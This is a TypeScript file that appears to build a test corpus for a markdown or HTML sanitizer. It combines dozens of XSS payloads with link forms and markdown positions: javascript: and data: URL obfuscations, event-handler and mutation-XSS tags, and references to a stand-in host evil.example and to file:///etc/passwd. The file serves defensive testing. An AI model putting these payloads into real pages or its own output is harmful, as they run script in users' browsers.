// What a hostile model might write: every scheme in every kind of link, every tag in every place.

export const SCRIPT = "alert(1)";

const HOSTILE_URLS = [
  `javascript:${SCRIPT}`, `JaVaScRiPt:${SCRIPT}`, ` javascript:${SCRIPT}`, `java\tscript:${SCRIPT}`,
  `java\nscript:${SCRIPT}`, `\u0001javascript:${SCRIPT}`, `javascript&#58;${SCRIPT}`,
  `javascript&colon;${SCRIPT}`, `&#106;avascript:${SCRIPT}`, `&#x6A;avascript:${SCRIPT}`,
  `javascript&#x3A;${SCRIPT}`, `java%0ascript:${SCRIPT}`, `javascript%3A${SCRIPT}`,
  `vbscript:${SCRIPT}`, `data:text/html,<script>${SCRIPT}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd", "blob:https://x/1", "about:blank", "//evil.example/x", "/api/session", "#x",
  "\\javascript:alert(1)", "javascript:/*--></title></style></script>*/alert(1)", "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "filesystem:x", "ws://evil.example",
  "intent://x#Intent;scheme=javascript;end", "content://x", "mhtml:x", "x-javascript:alert(1)",
];

const LINK_FORMS: ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `[x](${url} "onclick=${SCRIPT}")`,
  (url) => `| [x](${url}) |\n|---|\n| ![x](${url}) |`,
];

const TAGS = [
  `<script>${SCRIPT}</script>`, `<SCRIPT SRC=//evil.example></SCRIPT>`, `<img src=x onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`, `<svg><script>${SCRIPT}</script></svg>`, `<iframe src="javascript:${SCRIPT}">`,
  `<iframe srcdoc="<script>${SCRIPT}</script>">`, `<object data="javascript:${SCRIPT}">`,
  `<embed src="javascript:${SCRIPT}">`, `<a href="javascript:${SCRIPT}">x</a>`, `<style>@import '//evil'</style>`,
  `<link rel=stylesheet href=//evil>`, `<base href=//evil>`, `<meta http-equiv=refresh content="0;url=//evil">`,
  `<form action=//evil><input name=x></form>`, `<button formaction="javascript:${SCRIPT}">x</button>`,
  `<details open ontoggle=${SCRIPT}>`, `<video><source onerror=${SCRIPT}></video>`, `<body onload=${SCRIPT}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`, `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<template><script>${SCRIPT}</script></template>`, `<marquee onstart=${SCRIPT}>`, `<x onclick=${SCRIPT}>x</x>`,
  `"><img src=x onerror=${SCRIPT}>`, `'-${SCRIPT}-'`, `</code></pre><script>${SCRIPT}</script>`, `<!--><script>${SCRIPT}</script>-->`,
  `<a/href="jav&#x09;ascript:${SCRIPT}">x`, `<img/src/onerror=${SCRIPT}>`, `<isindex action=javascript:${SCRIPT} type=image>`,
];

const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `text ${payload} text`,
  (payload) => `- ${payload}\n- b`,
  (payload) => `> ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `| ${payload} |\n|---|\n| ${payload} |`,
  (payload) => `\`\`\`${payload}\n${payload}\n\`\`\``,
  (payload) => `**${payload}** \`${payload}\` ~~${payload}~~`,
  (payload) => `[${payload}](https://example.org "${payload}")`,
  (payload) => `![${payload}](https://example.org/${payload})`,
  (payload) => `$${payload}$ and $$${payload}$$`,
  (payload) => `[^${payload}]\n\n[^${payload}]: ${payload}`,
];

export const CORPUS: readonly string[] = [
  ...HOSTILE_URLS.flatMap((url) => LINK_FORMS.map((form) => form(url))),
  ...TAGS.flatMap((tag) => PLACES.map((place) => place(tag))),
];
